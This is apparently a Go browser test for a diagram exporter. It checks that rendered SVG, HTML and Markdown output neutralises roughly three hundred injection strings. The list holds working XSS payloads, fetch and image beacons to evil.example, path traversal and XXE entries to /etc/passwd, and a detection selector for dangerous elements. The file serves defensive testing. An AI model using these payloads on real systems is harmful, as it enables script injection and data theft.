//go:build browser

package browser

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/asbuilt/asbuilt/internal/export"
	"github.com/asbuilt/asbuilt/internal/paint"
	"github.com/asbuilt/asbuilt/internal/typeset"
	"github.com/asbuilt/asbuilt/pkg/diagram"
)

// attacks are words that would run a script, load something or lead astray if any of them became more than text: each
// way in, with each thing to do.
func attacks() []string {
	doing := []string{
		`alert(1)`, `fetch('https://evil.example/x')`, `new Image().src='//evil.example/x'`, `location='https://evil.example'`,
	}
	running := []string{ // a script in a place
		`<script>%s</script>`, `</script><script>%s</script>`, `<script type="module">%s</script>`, `<svg><script>%s</script></svg>`, `<svg><script href="data:text/javascript,%s"/></svg>`,
		`</text></g></svg><script>%s</script><svg><g><text>`, `</title></svg><img src=x onerror="%s">`, `</desc><script>%s</script><desc>`, `</style><script>%s</script><style>`, `--></style></script><script>%s</script>`,
		`]]><script>%s</script><![CDATA[`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%s&gt;">`, `<math href="javascript:%s">x</math>`, `<math><maction actiontype="statusline" xlink:href="javascript:%s">x</maction></math>`,
		`<svg><style><img src=x onerror="%s"></style></svg>`, `<svg><desc><img src=x onerror="%s"></desc></svg>`, `<svg><title><img src=x onerror="%s"></title></svg>`, `<foreignObject><body onload="%s"/></foreignObject>`, `<svg><annotation-xml encoding="text/html"><img src=x onerror="%s"></annotation-xml></svg>`,
		`<details open ontoggle="%s">`, `<video src=x onerror="%s">`, `<audio src=x onerror="%s">`, `<iframe srcdoc="<script>parent.%s</script>">`, `<object data="javascript:%s">`, `<embed src="javascript:%s">`, `<input autofocus onfocus="%s">`, `<marquee onstart="%s">`, `<body onpageshow="%s">`, `<template shadowrootmode=open><script>%s</script></template>`,
		`<animate onbegin="%s" attributeName="x" dur="1s"/>`, `<set attributeName="href" to="javascript:%s"/>`, `<a xlink:href="javascript:%s"><text y="20">x</text></a>`, `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>%s</script></svg>#x"/>`, `<handler xmlns="http://www.w3.org/2000/svg" type="application/ecmascript">%s</handler>`,
		`" onload="%s" x="`, `' onerror='%s' x='`, "` onclick=%s x=`", `" autofocus tabindex="1" onfocus="%s" x="`, `" style="animation-name:x" onanimationstart="%s" x="`, `"><svg onload="%s">`, `'><img src=x onerror='%s'>`, `&quot;&gt;&lt;script&gt;%s&lt;/script&gt;`, `&#x3c;script&#x3e;%s&#x3c;/script&#x3e;`, `&lt&#59;script&gt&#59;%s`, "\u00ab\uff1cscript\uff1e%s", "\x00<script>%s</script>", "<scr\x00ipt>%s</scr\x00ipt>", "<script\u2028>%s</script>", "\ufeff<script>%s</script>", "+ADw-script+AD4-%s+ADw-/script+AD4-",
		`javascript:%s`, `javascript://%%0a%s`, "java\nscript:%s", "\x01javascript:%s", `JAVASCRIPT:%s`, `javascript&colon;%s`, `&#106;avascript:%s`, `data:text/html,<script>%s</script>`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="%s"/>`, `vbscript:%s`, `view-source:javascript:%s`, `blob:javascript:%s`, `filesystem:javascript:%s`,
		`{{constructor.constructor('%s')()}}`, `${%s}`, `<%%= %s %%>`, `[x](javascript:%s)`, `![x](javascript:%s)`, `<javascript:%s>`, `[x]: javascript:%s`, "```html\n<script>%s</script>\n```",
	}
	loading := []string{
		`<link rel="stylesheet" href="https://evil.example/x.css">`, `<style>@import url(https://evil.example/x.css)</style>`, `<image href="https://evil.example/x.png" width="1" height="1"/>`, `<feImage href="https://evil.example/x.png"/>`, `<style>*{background:url(//evil.example/x)}</style>`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
		`url(https://evil.example/x)`, `red;background:url(https://evil.example/x)`, `}*{background:url(https://evil.example/x)}`, `\0075rl(https://evil.example/x)`, `"/><image href="https://evil.example/x"/><g x="`, `<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>`, `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">`, `<!ENTITY % x SYSTEM "https://evil.example/x"> %x;`, `<xi:include href="https://evil.example/x"/>`,
		`![x](https://evil.example/x.png)`, `<img srcset="https://evil.example/x 1x">`, `<picture><source srcset="https://evil.example/x"></picture>`, `<form action="https://evil.example"><button autofocus>`, `//evil.example/x`, `\\evil.example\x`, `https:evil.example`, `http:\\evil.example`, `https://user:pass@evil.example`, `https://`, `ftp://evil.example/x`, `file:///etc/passwd`, `../../../../etc/passwd`, `mailto:a@evil.example?attach=/etc/passwd`,
		"\u202e<script>alert(1)</script>\u202c", "\u2066javascript:alert(1)\u2069", "a\u0000b\uffff", "\u061c\u200e\u200f\u202a\u202b\u202d\u2067\u2068",
	}
	out := loading
	for i, place := range running {
		for k := range 4 {
			out = append(out, fmt.Sprintf(place, doing[(i+k)%len(doing)]))
		}
	}
	return out
}

// assault is a diagram of several attacks, each in every field of a group, two cards and an edge.
func assault(words []string) *diagram.Diagram {
	all := strings.Join(words, " ")
	d := &diagram.Diagram{Name: "assault", Kind: "container", Title: all, Description: all, Architecture: all, Version: all, Direction: "right", Drift: true}
	for i, word := range words {
		one := hostile(word)
		g := one.Groups[0]
		g.Address = fmt.Sprintf("system.%d%s", i, word)
		d.Groups = append(d.Groups, g)
		d.Badges = append(d.Badges, diagram.Badge{Title: word})
		for k, n := range one.Nodes[:2] {
			n.Address, n.Group, n.Badges = fmt.Sprintf("component.%d%d%s", i, k, word), i, []int{i}
			d.Nodes = append(d.Nodes, n)
		}
		e := one.Edges[i%len(one.Edges)]
		e.From, e.To = 2*i, 2*i+1
		d.Edges = append(d.Edges, e)
	}
	return d
}

// Three hundred attacks, in every field of pictures opened by themselves and inside a page, in tables made of Markdown, in
// the page of all views and in what serve shows: no dialog opens, nothing is asked of anybody, no word becomes an element.
func TestAttacks(t *testing.T) {
	words := attacks()
	require.GreaterOrEqual(t, len(words)+len(hostileWords), 300)
	pool, tab, dir, server := newPool(t), newTab(t), t.TempDir(), listen(t)
	watch := newWatchOf(t, tab, server.URL())
	var sum tally
	check := func(file, name string, data []byte) {
		require.NoError(t, chromedp.Do(tab, prefer("light"), chromedp.Navigate("file://"+write(t, dir, file, data))))
		evaluate[int](t, tab, tempted)
		require.Zero(t, evaluate[int](t, tab, strange), "%s of %s", file, name)
	}
	page := func(body []byte) []byte {
		return append([]byte("<!doctype html><html lang=en><meta charset=utf-8><title>host</title><main>"), body...)
	}
	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	views := export.Gallery{Architecture: strings.Join(words[:20], " "), Version: words[0]}
	for batch := range slices.Chunk(words, 12) {
		name := fmt.Sprintf("%.40q and more", batch[0])
		d := assault(batch)
		set := typeset.Set(d, nil)
		plan := place(t, pool, d, set)
		svg, err := paint.SVG(d, set, plan)
		require.NoError(t, err)
		check("assault.svg", name, svg)
		fit(t, tab)
		sum.probe(t, tab, name, "whole")
		check("host.html", name, page(svg))
		fragment, err := paint.Fragment(d, set, plan)
		require.NoError(t, err)
		check("fragment.html", name, page(fragment))
		fit(t, tab)
		sum.probe(t, tab, name+" in a page", "whole")
		var tables bytes.Buffer
		require.NoError(t, md.Convert(export.Markdown(d), &tables))
		check("tables.html", name, page(tables.Bytes()))
		require.Zero(t, evaluate[int](t, tab, `document.querySelectorAll('main a').length`), name)
		for i, word := range batch {
			v := &diagram.Diagram{Name: fmt.Sprintf("v%d", i), Kind: "landscape", Title: word, Description: word}
			views.Views = append(views.Views, export.Hanging{Diagram: v, Files: []export.File{{Name: word, Label: "SVG"}}})
		}
		require.NoError(t, chromedp.Do(tab, chromedp.EmulateViewport(1200, 800), chromedp.Navigate(server.URL())))
		require.NoError(t, server.Show(exhibit(d, batch, svg)))
		tempt(t, tab, d, name)
	}
	all, err := views.Page()
	require.NoError(t, err)
	check("index.html", "all", all)
	require.Zero(t, evaluate[int](t, tab, `[...document.links].filter((a) => a.protocol !== 'file:').length`))
	sum.require(t)
	watch.requireQuiet(t, tab)
}

// tempted does to every part of the page what a reader could do, but follow links.
const tempted = `(() => {
	for (const e of document.querySelectorAll('svg, svg *')) {
		for (const type of ['pointerover', 'mouseover', 'mouseenter', 'focusin', 'load', 'error', 'animationstart', 'beginEvent', 'keydown']) e.dispatchEvent(new Event(type, {bubbles: true}));
		if (e.localName !== 'a' && !e.closest('a')) e.dispatchEvent(new MouseEvent('click', {bubbles: true}));
	}
	return document.querySelectorAll('svg *').length;
})()`

// strange counts what no page of ours holds.
const strange = `document.querySelectorAll('script, iframe, img, image, use, foreignObject, object, embed, video, audio, math, form, base, link, template, animate, set, marquee, details, svg svg, ' +
	['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onbegin', 'ontoggle', 'onanimationstart', 'autofocus'].map((a) => '[' + a + ']').join(', ')).length`
